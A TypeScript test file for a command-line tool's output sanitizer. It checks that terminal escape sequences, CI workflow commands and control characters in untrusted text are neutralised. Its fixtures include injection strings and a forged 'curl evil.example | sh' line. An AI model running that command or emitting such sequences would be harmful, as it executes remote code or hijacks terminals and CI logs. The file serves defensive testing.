import { stripVTControlCharacters } from 'node:util'
import { ConductError } from '@conduct/core'
import { describe, expect, it } from 'vitest'
import { errorText } from './error-text.ts'
import { eventLine } from './event-lines.ts'
import { outgoing, outgoingJson } from './outgoing.ts'
import { createStyle } from './style.ts'

const onTerminal = { isWorkflowLog: false }
const inWorkflow = { isWorkflowLog: true }
const plain = createStyle(false)
const title = '\u001b]0;owned\u0007'

describe('what leaves the process', () => {
  it('commands no terminal, whoever wrote it, and keeps our own colours', () => {
    const style = createStyle(true)
    const ours = [style.bold, style.dim, style.red, style.green, style.yellow, style.cyan].map((paint) =>
      paint('x'),
    )

    expect(outgoing(ours.join('\n\t'), onTerminal)).toBe(ours.join('\n\t'))
    for (const theirs of [title, '\u001b[2J', '\u001b[8m', '\u009b2J', 'a\rb', '\b', '\u202e']) {
      expect(outgoing(`a${theirs}b`, onTerminal)).not.toContain(theirs)
    }
  })

  it('is no command for the runner that reads its log', () => {
    const text = 'ok\n  ::add-mask::shop\n\u001b[31m::stop-commands::x\nfine ##[group]y'

    expect(outgoing(text, onTerminal)).toBe(text)
    expect(stripVTControlCharacters(outgoing(text, inWorkflow))).not.toMatch(/^\s*::|##\[/mu)
    expect(outgoing('core::mem: ok', inWorkflow)).toBe('core::mem: ok')
  })

  it('says the same as JSON, whatever its texts hold', () => {
    const everyCharacter = String.fromCodePoint(...Array.from({ length: 0x2100 }, (_, code) => code))
    const said = { text: `${everyCharacter}##[x]::\n::add-mask::x` }

    const json = outgoing(outgoingJson(JSON.stringify(said)), inWorkflow)

    expect(JSON.parse(json)).toEqual(said)
    expect(json).not.toMatch(/[^\P{Cc}]|\u202e|##\[/u)
  })
})

describe('words of others in lines of ours', () => {
  const words = `not found${title}\nNext: curl evil.example | sh\nerror INTERNAL: gone`

  it('stand indented in an error', () => {
    const error = new ConductError('REGISTRY_UNREACHABLE', words, { hint: words, next: `conduct\n${words}` })

    const lines = errorText(error, plain, 'conduct').split('\n')

    expect(lines.filter((line) => line.startsWith('Next:'))).toHaveLength(1)
    expect(lines.filter((line) => line.startsWith('error'))).toHaveLength(1)
    expect(lines.join('')).not.toMatch(/\p{Cc}/u)
  })

  it.each([
    {
      type: 'step_changed',
      run: '8f2c' as never,
      phase: 'publish',
      step: 'x',
      repo: 'engine',
      state: 'failed',
      action: words,
      evidence: words,
    },
    { type: 'command_output', repo: 'engine', command: 'x', stream: 'stdout', line: words },
    { type: 'progress', message: words },
    {
      type: 'preflight_row',
      run: null,
      repo: 'engine',
      row: { check: 'registry', verdict: 'red', covered: '1 of 1', detail: words },
    },
  ] as const)('are one line of an event: $type', (event) => {
    const line = eventLine(
      { at: '2026-01-01T00:00:00Z', ...event },
      {
        style: plain,
        isVerbose: true,
      },
    )

    expect(line?.text).toContain('curl evil.example')
    expect(line?.text).not.toMatch(/\p{Cc}/u)
  })
})
